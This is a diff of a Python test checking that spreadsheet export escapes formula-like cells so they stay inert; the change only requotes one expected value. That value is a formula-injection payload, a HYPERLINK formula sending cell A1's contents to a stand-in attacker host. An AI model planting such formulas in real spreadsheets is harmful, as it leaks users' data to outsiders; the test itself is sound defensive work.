@@ -216,7 +216,7 @@ def test_it_writes_cells_a_spreadsheet_would_run_as_formulas_inert_and_reads_the
     assert {tuple(row[:5]) for row in rows} == {("'-k", "'-bases", "'=1+1", "'-wire", "supports")}
     assert sorted(row[5] for row in rows) == sorted(
         [
-            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")",
+            '\'=HYPERLINK("http://evil.example/?"&A1,"Open")',
             "'+7% growth in trade",
             "'-2 warships left",
             "'@SUM(A1:A9)",
